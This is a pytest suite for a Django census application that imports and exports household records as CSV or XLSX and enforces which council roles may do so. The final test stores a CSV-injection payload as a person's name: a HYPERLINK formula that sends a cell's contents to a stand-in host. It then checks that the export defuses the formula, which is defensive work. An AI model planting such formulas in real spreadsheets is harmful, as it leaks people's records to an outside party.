from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from comuna.census.models import Household, Person
from comuna.core.models import Upload
from tests.conftest import World, client_for

pytestmark = pytest.mark.django_db

HEADER = "consejo_comunal;hogar;direccion;nombres;apellidos;cedula;fecha_nacimiento;sexo"
GOOD = "\n".join(
    [
        HEADER,
        "CC01;0070;Calle 7;Ana;Rivas;V-20.000.070;01/01/1990;F",
        "CC01;0070;;Eva;Rivas;;02/02/2012;F",
    ]
)
BAD = "\n".join(
    [HEADER, "CC01;0071;Calle 7;Ana;Rivas;;01/01/1990;F", "CC01;0071;;;Rivas;;31/02/2000;F"]
)


def upload(client: Client, text: str, council: str = "", name: str = "censo.csv") -> Any:
    url = reverse("census:import")
    client.get(url)
    file = SimpleUploadedFile(name, text.encode("latin-1"), content_type="text/csv")
    return client.post(
        url,
        {
            "file": file,
            "council": council,
            "csrfmiddlewaretoken": client.cookies["csrftoken"].value,
        },
    )


def confirm(client: Client, url: str) -> Any:
    client.get(url)
    return client.post(url, {"csrfmiddlewaretoken": client.cookies["csrftoken"].value})


def test_a_bad_file_is_previewed_with_every_error_and_nothing_is_saved(world: World) -> None:
    client = client_for(world.spokesperson)
    response = upload(client, BAD)
    stored = Upload.objects.get()
    assert response["Location"] == reverse("census:import_preview", args=[stored.pk])
    page = client.get(response["Location"]).content.decode()
    assert "The file has 2 problems." in page
    assert "The first names are missing." in page and "“31/02/2000” is not a real date." in page
    assert "Confirm import" not in page
    confirm(client, response["Location"])
    assert not Household.objects.filter(reference="0071").exists()
    assert Upload.objects.get().applied_at is None


def test_a_good_file_is_previewed_then_confirmed_once(world: World) -> None:
    client = client_for(world.spokesperson)
    preview_url = upload(client, GOOD)["Location"]
    page = client.get(preview_url).content.decode()
    assert "Confirm import" in page and "Ana Rivas" in page and "V20000070" in page
    assert not Household.objects.filter(reference="0070").exists()

    response = confirm(client, preview_url)
    assert response.status_code == 302
    household = Household.objects.get(council=world.council, reference="0070")
    assert household.members.count() == 2
    stored = Upload.objects.get()
    assert stored.applied_at is not None and stored.summary["people_created"] == 2
    assert stored.kind == "census" and stored.commune == world.commune

    again = confirm(client, preview_url)  # a double click, or the back button and resubmit
    assert again["Location"] == preview_url
    assert Person.objects.filter(last_names="Rivas").count() == 2
    assert "Imported on" in client.get(preview_url).content.decode()


def test_a_spokesperson_cannot_import_rows_of_another_council(world: World) -> None:
    client = client_for(world.spokesperson)
    text = f"{HEADER}\nCC02;0072;Calle 7;Ana;Rivas;;01/01/1990;F\n"
    page = client.get(upload(client, text)["Location"]).content.decode()
    assert "You may not change the census of council CC02." in page
    confirm(client, reverse("census:import_preview", args=[Upload.objects.get().pk]))
    assert not Household.objects.filter(reference="0072").exists()


def test_a_spokesperson_may_choose_only_their_own_council(world: World) -> None:
    client = client_for(world.spokesperson)
    response = upload(client, GOOD, council=str(world.other_council.pk))
    assert response.status_code == 400  # the form sent back with its error
    assert not Upload.objects.exists()


def test_an_administrator_imports_into_a_chosen_council(world: World) -> None:
    client = client_for(world.admin)
    text = "hogar,direccion,nombres,apellidos,fecha_nacimiento\n0073,Calle 7,Ana,Rivas,1990-01-01\n"
    preview_url = upload(client, text, council=str(world.other_council.pk))["Location"]
    confirm(client, preview_url)
    assert Household.objects.get(reference="0073").council == world.other_council


@pytest.mark.parametrize("persona", ["comptroller", "resident", "outsider"])
def test_only_administrators_and_spokespeople_import(world: World, persona: str) -> None:
    client = client_for(getattr(world, persona))
    assert client.get(reverse("census:import")).status_code == 403


def test_nobody_sees_or_confirms_another_persons_upload(world: World) -> None:
    preview_url = upload(client_for(world.spokesperson), GOOD)["Location"]
    admin = client_for(world.admin)
    assert admin.get(preview_url).status_code == 404
    assert client_for(world.outsider).get(preview_url).status_code == 403
    assert not Household.objects.filter(reference="0070").exists()


def test_a_file_that_is_not_a_spreadsheet_gets_a_clear_message(world: World) -> None:
    client = client_for(world.admin)
    url = reverse("census:import")
    client.get(url)
    photo = SimpleUploadedFile("foto.png", b"\x89PNG\r\n\x1a\n\x00\x00", content_type="image/png")
    response = client.post(
        url, {"file": photo, "csrfmiddlewaretoken": client.cookies["csrftoken"].value}
    )
    page = client.get(response["Location"]).content.decode()
    assert "This is not a CSV or XLSX file." in page


def test_the_comptroller_exports_every_council_as_csv(world: World) -> None:
    response = client_for(world.comptroller).get(reverse("census:export", args=["csv"]))
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith('attachment; filename="censo-')
    lines = response.content.decode("utf-8-sig").splitlines()
    assert lines[0] == HEADER
    assert len(lines) == 4


def test_a_spokesperson_exports_their_own_council_as_xlsx(world: World) -> None:
    response = client_for(world.spokesperson).get(reverse("census:export", args=["xlsx"]))
    sheet = load_workbook(io.BytesIO(response.content)).worksheets[0]
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0] == tuple(HEADER.split(";"))
    assert sorted(row[0] for row in rows[1:]) == ["CC01", "CC01"]
    assert rows[1][3:6] == ("María José", "Pérez Rodríguez", "V12345678")


def test_a_spokesperson_cannot_export_another_council(world: World) -> None:
    url = reverse("census:export", args=["csv"]) + "?council=CC02"
    assert client_for(world.spokesperson).get(url).status_code == 404


@pytest.mark.parametrize("persona", ["resident", "outsider"])
def test_residents_cannot_export(world: World, persona: str) -> None:
    client = client_for(getattr(world, persona))
    assert client.get(reverse("census:export", args=["csv"])).status_code == 403


def test_an_unknown_export_format_is_not_found(world: World) -> None:
    assert client_for(world.admin).get(reverse("census:export", args=["pdf"])).status_code == 404


def test_anonymous_visitors_are_sent_to_log_in(world: World) -> None:
    response = Client().get(reverse("census:export", args=["csv"]))
    assert response.status_code == 302


def test_the_upload_page_offers_the_template_that_the_import_reads(world: World) -> None:
    client = client_for(world.spokesperson)
    page = client.get(reverse("census:import")).content.decode()
    url = reverse("census:import_template", args=["csv"])
    assert url in page
    response = client.get(url)
    assert response["Content-Disposition"] == 'attachment; filename="plantilla-censo.csv"'
    assert response.content.decode("utf-8-sig").splitlines() == [HEADER]


def test_residents_get_no_import_template(world: World) -> None:
    client = client_for(world.resident)
    assert client.get(reverse("census:import_template", args=["xlsx"])).status_code == 403


def test_a_name_written_as_a_formula_is_exported_as_text_a_spreadsheet_will_not_run(
    world: World,
) -> None:
    formula = '=HYPERLINK("http://x.example/?"&D2,"Ver")'
    Person.objects.filter(household=world.household).update(first_names=formula)
    response = client_for(world.comptroller).get(reverse("census:export", args=["csv"]))
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    assert "'" + formula in [row[3] for row in rows]
    assert not any(cell.startswith(("=", "+", "@")) for row in rows for cell in row)
